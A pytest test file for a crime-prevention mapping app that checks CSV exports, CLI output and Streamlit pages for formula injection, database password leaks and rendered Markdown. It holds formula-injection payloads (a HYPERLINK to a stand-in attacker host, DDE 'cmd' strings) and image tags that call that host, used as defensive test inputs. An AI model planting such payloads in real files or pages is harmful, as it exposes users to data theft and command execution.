"""Outputs that cannot leak or attack: CSV cells, store credentials, user text in the pages.

Each test stores hostile text the way an import or a form would, then reads what reaches
a person: a CSV as a spreadsheet would open it, a CLI line or a page element.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import sqlalchemy as sa
from streamlit.testing.v1 import AppTest

from cpted import accounts as acc
from cpted.cli import main
from cpted.privacy import Role
from layers import tables as wt
from layers.schema import Layer
from layers.store import Store, open_store
from tests.conftest import ROOT, by_label
from tests.helpers import exporter

APP = str(ROOT / "app.py")

# one text per first character a spreadsheet treats as the start of a formula (OWASP)
FORMULAS = ['=HYPERLINK("http://attacker.invalid/?leak","open")', "+cmd|' /C calc'!A0",
            "-1+2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _live_formulas(csv: str | Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would run: text beginning a formula."""
    import io

    source = io.StringIO(csv) if isinstance(csv, str) else csv
    table = pd.read_csv(source, dtype=str, keep_default_na=False)
    cells = [*table.columns, *table.to_numpy().ravel().tolist()]
    return [c for c in cells if c.startswith(DANGEROUS) and not _is_number(c)]


def _neutralised_payloads(csv: str | Path, payloads: list[str]) -> set[str]:
    """Which of ``payloads`` the CSV holds as inert text (``'`` + payload)."""
    import io

    source = io.StringIO(csv) if isinstance(csv, str) else csv
    table = pd.read_csv(source, dtype=str, keep_default_na=False)
    cells = set(table.to_numpy().ravel().tolist())
    return {p for p in payloads if any(c.startswith("'" + p) for c in cells)}


def _update_each(store: Store, table: str, column: str, key: str,
                 values: list[str], *, prefix_of_old: bool = False) -> list[str]:
    """Set ``column`` of the first rows of ``table`` to ``values``, cycling; returns keys."""
    with store.engine.begin() as conn:
        keys = [r[0] for r in conn.execute(sa.text(f"SELECT {key} FROM {table} ORDER BY {key}"))]
        for n, k in enumerate(keys if prefix_of_old else keys[:len(values)]):
            v = values[n % len(values)]
            conn.execute(sa.text(f"UPDATE {table} SET {column} = :v WHERE {key} = :k"),
                         {"v": f"{v} {k}" if prefix_of_old else v, "k": k})
    return keys


@pytest.fixture
def download_data(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, Any]]:
    """Every ``download_button`` a page draws, as ``(label, data)``."""
    import streamlit
    from streamlit.delta_generator import DeltaGenerator

    seen: list[tuple[str, Any]] = []
    original_st = streamlit.download_button
    original_dg = DeltaGenerator.download_button

    def on_st(label: str, data: Any, *args: Any, **kwargs: Any) -> Any:
        seen.append((label, data))
        return original_st(label, data, *args, **kwargs)

    def on_dg(self: DeltaGenerator, label: str, data: Any, *args: Any, **kwargs: Any) -> Any:
        seen.append((label, data))
        return original_dg(self, label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", on_st)
    monkeypatch.setattr(DeltaGenerator, "download_button", on_dg)
    return seen


@pytest.mark.usefixtures("fresh_streamlit_caches", "map_returns")
def test_every_csv_output_neutralises_formulas(
        sample_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str], download_data: list[tuple[str, Any]]) -> None:
    with open_store(sample_db) as s:
        _update_each(s, "concerns", "description", "service_request_id", FORMULAS)
        _update_each(s, "neighborhoods", "name", "id", FORMULAS)
        _update_each(s, "streets", "id", "id", FORMULAS, prefix_of_old=True)
        _update_each(s, "streetlights", "id", "id", FORMULAS, prefix_of_old=True)
        with s.engine.begin() as conn:
            for n, f in enumerate(FORMULAS):
                conn.execute(sa.insert(wt.audit_log).values(
                    at="2026-01-01T00:00:00.000Z", actor=f, actor_role="coordinator",
                    action=f, target_kind="concern", target_id=f"CR-{n}", detail=None))
        exporter(s, public=False).export(Layer.CONCERNS, tmp_path / "lib.csv", "csv")
    outputs: dict[str, str | Path] = {"cpted.exports / layers.writers": tmp_path / "lib.csv"}

    db = str(sample_db)
    for name, argv in {
        "cli export": ["export", "--layer", "concerns", "--format", "csv", "--out",
                       str(tmp_path / "export.csv"), "--db", db],
        "cli overlay": ["overlay", "--out", str(tmp_path / "overlay.csv"), "--db", db],
        "cli lighting": ["lighting", "--out", str(tmp_path / "lighting.csv"), "--db", db],
    }.items():
        assert main(argv) == 0, capsys.readouterr().err
        outputs[name] = tmp_path / argv[argv.index("--out") + 1].rsplit("/", 1)[1]

    monkeypatch.setenv("CPTED_DB_URL", db)
    monkeypatch.setenv("CPTED_STAFF_MODE", "true")
    monkeypatch.chdir(ROOT)
    app = AppTest.from_file(APP, default_timeout=180)
    app.switch_page("app_pages/changes.py").run()
    assert not app.exception, app.exception
    app.switch_page("app_pages/streetlights.py").run()
    by_label(app.button, "Make the work list").click().run()
    assert not app.exception, app.exception
    for label, data in download_data:
        if "CSV" in label:
            outputs[f"page: {label}"] = data.decode() if isinstance(data, bytes) else data
    assert {"page: Download as CSV", "page: Download CSV for the crews"} <= set(outputs)

    live = {name: _live_formulas(out) for name, out in outputs.items()}
    assert not any(live.values()), {k: v for k, v in live.items() if v}
    for name, out in outputs.items():  # the hostile text did reach every output, as text
        assert _neutralised_payloads(out, FORMULAS), name
    # a number column keeps its numbers: negative longitudes are not prefixed
    lib = pd.read_csv(tmp_path / "lib.csv")
    assert lib["longitude"].dtype == float and (lib["longitude"] < 0).all()
    assert set(lib["description"]) >= {"'" + f for f in FORMULAS[:4]}


SECRET = "s3cret-Pw0rd"


def _with_password(url: str) -> str:
    scheme, rest = url.split("://", 1)
    user, host = rest.split("@", 1)
    return f"{scheme}://{user}:{SECRET}@{host}"


@pytest.mark.usefixtures("fresh_streamlit_caches", "map_returns")
def test_no_output_shows_the_database_password(
        pg_url: str, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    url = _with_password(pg_url)  # the test server trusts loopback, so any password works
    said: list[str] = []

    def run(*argv: str) -> int:
        code = main(list(argv))
        out, err = capsys.readouterr()
        said.append(out + err)
        return code

    assert run("sample", "--db", url) == 0
    assert run("info", "--db", url) == 0
    assert run("info", "--json", "--db", url) == 0
    assert json.loads(said[-1])["db"].startswith("postgresql")
    assert run("db", "upgrade", "--db", url) == 0
    # failures: an unreachable server, a password in the query string, an unparsable port
    assert run("info", "--db", f"postgresql+psycopg://cpted:{SECRET}@127.0.0.1:1/x") == 1
    assert run("info", "--db", f"postgresql+psycopg://cpted@127.0.0.1:1/x?password={SECRET}") \
        == 1
    assert run("info", "--db", f"postgresql+psycopg://cpted:{SECRET}@127.0.0.1:port/x") == 1
    leaks = [s for s in said if SECRET in s]
    assert not leaks, leaks
    assert "127.0.0.1" in said[0]  # the store is still named, only without its password

    with open_store(url) as s:
        assert SECRET not in s.label and "127.0.0.1" in s.label

    monkeypatch.setenv("CPTED_DB_URL", url)
    monkeypatch.setenv("CPTED_STAFF_MODE", "true")
    monkeypatch.chdir(ROOT)
    app = AppTest.from_file(APP, default_timeout=120).run()
    assert not app.exception, app.exception
    shown = list(_texts(app))
    from app_pages._state import store_for

    store_for(url).close()  # the page's store, kept by Streamlit across reruns
    assert any("127.0.0.1" in text.replace("\\", "") for _, text in shown)  # still named
    assert not [t for t in shown if SECRET in t[1]]


# -- user text as plain text --------------------------------------------------------------

HOST = "attacker.invalid"
HOSTILE = [f"![x](http://{HOST}/p.png)", f"<img src=http://{HOST}/q.png>"]
#: elements whose ``body`` Streamlit shows verbatim, not as Markdown
PLAIN_BODIES = {"text", "code", "json"}


def _nodes(node: Any) -> Iterator[Any]:
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _nodes(child)


def _strings(message: Any, path: str = "") -> Iterator[tuple[str, str]]:
    """Every (field path, text) of a protobuf message, nested messages included."""
    for fd, value in message.ListFields():
        where = f"{path}.{fd.name}" if path else fd.name
        repeated = fd.is_repeated if hasattr(fd, "is_repeated") else \
            fd.label == fd.LABEL_REPEATED
        items = value if repeated else [value]
        for v in items:
            if fd.type == fd.TYPE_MESSAGE:
                yield from _strings(v, where)
            elif isinstance(v, str):
                yield where, v


def _texts(app: AppTest) -> Iterator[tuple[str, str]]:
    """Every string of every element and block on the page, as ``(kind.field, text)``."""
    for node in _nodes(app._tree):
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "ListFields"):
            kind = getattr(node, "type", type(node).__name__)
            for where, text in _strings(proto):
                yield f"{kind}.{where}", text


def _markdown_texts(app: AppTest) -> Iterator[tuple[str, str]]:
    """The strings Streamlit renders as Markdown: bodies (but of plain-text elements),
    labels, help texts, captions, radio options, tab labels."""
    for where, text in _texts(app):
        kind, _, field = where.partition(".")
        leaf = field.rsplit(".", 1)[-1]
        if (leaf == "body" and kind not in PLAIN_BODIES) or leaf in ("label", "help",
                                                                    "caption") \
                or (kind == "radio" and leaf == "options"):
            yield where, text


def _escaped(text: str, i: int) -> bool:
    """Whether ``text[i]`` is preceded by an odd number of backslashes."""
    n = 0
    while i - n - 1 >= 0 and text[i - n - 1] == "\\":
        n += 1
    return n % 2 == 1


def _live_markup(text: str) -> list[str]:
    """Images, links and HTML tags to :data:`HOST` that Markdown would make of ``text``."""
    found = []
    for m in re.finditer(r"\]\(", text):
        if not _escaped(text, m.start()) and not _escaped(text, m.start() + 1) \
                and HOST in text[m.end():m.end() + 60]:
            found.append("link or image: " + text[max(0, m.start() - 10):m.end() + 40])
    for m in re.finditer(r"<", text):
        if not _escaped(text, m.start()) and re.match(r"<\s*(img|a|http|/?\w+[\s>])",
                                                      text[m.start():], re.I) \
                and HOST in text[m.start():m.start() + 80]:
            found.append("html: " + text[m.start():m.start() + 60])
    if re.search(r"https?://" + re.escape(HOST), text):
        found.append("autolink: " + text)
    return found


def _poison_for_pages(s: Store) -> None:
    """Hostile text in every user-written field the pages show."""
    bad = " ".join(HOSTILE)
    concerns = s.read(Layer.CONCERNS).sort_values("requested_datetime", ascending=False)
    newest = concerns["service_request_id"].iloc[0]
    with s.engine.begin() as conn:
        conn.execute(sa.text("UPDATE concerns SET service_name = :b, address = :b, "
                             "description = :b, attributes = :a WHERE service_request_id = :i"),
                     {"b": bad, "a": json.dumps({"hostile": bad}), "i": newest})
        conn.execute(sa.text("UPDATE assessments SET place_name = :b, assessor = :b, "
                             "notes = :b"), {"b": bad})
        conn.execute(sa.text("UPDATE streetlights SET id = :b || id"), {"b": bad})
        conn.execute(sa.text("UPDATE neighborhoods SET name = :b || name"), {"b": bad})
    from cpted import spots as sp

    sp.create_spot(s, bad, [newest], note=bad, actor="coordinator")
    pid = sp.create_plan(s, bad, owner_kind=next(iter(sp.OwnerKind)).value, owner_name=bad,
                         due=date.today() + timedelta(days=3), actor="coordinator",
                         request_ids=[newest], note=bad)
    with s.engine.begin() as conn:  # now overdue, so the page lists it in its warning
        conn.execute(sa.update(wt.action_plans).where(wt.action_plans.c.id == pid)
                     .values(due_date=(date.today() - timedelta(days=10)).isoformat()))
    acc.create_account(s, "boss", bad, Role.ADMIN, "correct horse 9")


@pytest.mark.usefixtures("fresh_streamlit_caches", "map_returns")
def test_user_text_is_never_rendered_as_markdown(sample_db: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    with open_store(sample_db) as s:
        _poison_for_pages(s)
    monkeypatch.setenv("CPTED_DB_URL", str(sample_db))
    monkeypatch.delenv("CPTED_STAFF_MODE", raising=False)
    monkeypatch.chdir(ROOT)
    app = AppTest.from_file(APP, default_timeout=180).run()
    by_label(app.sidebar.text_input, "User name").input("boss")
    by_label(app.sidebar.text_input, "Password").input("correct horse 9")
    by_label(app.sidebar.button, "Sign in").click().run()
    assert not app.exception, app.exception

    found: dict[str, list[str]] = {}
    seen_hostile = set()
    for page in ("concern", "audits", "spots", "streetlights", "accounts", "changes", "map"):
        app.switch_page(f"app_pages/{page}.py").run()
        if page == "streetlights":
            by_label(app.button, "Make the work list").click().run()
        assert not app.exception, (page, app.exception)
        for _where, text in _texts(app):
            if HOST in text.replace("\\", ""):  # shown, escaped or not
                seen_hostile.add(page)
        for where, text in _markdown_texts(app):
            if problems := _live_markup(text):
                found.setdefault(page, []).extend(f"{where}: {p}" for p in problems)
    # the hostile text did reach each page (as plain text at least)
    assert {"concern", "audits", "spots", "accounts"} <= seen_hostile
    assert not found, found


def test_live_markup_finds_what_markdown_would_render() -> None:
    """The check above can fail: raw hostile text is caught, escaped text is not."""
    from app_pages._text import md

    for raw in HOSTILE:
        assert _live_markup(f"**{raw}**")
        assert not _live_markup(f"**{md(raw)}**"), md(raw)
    assert _live_markup(f"see http://{HOST}/x")
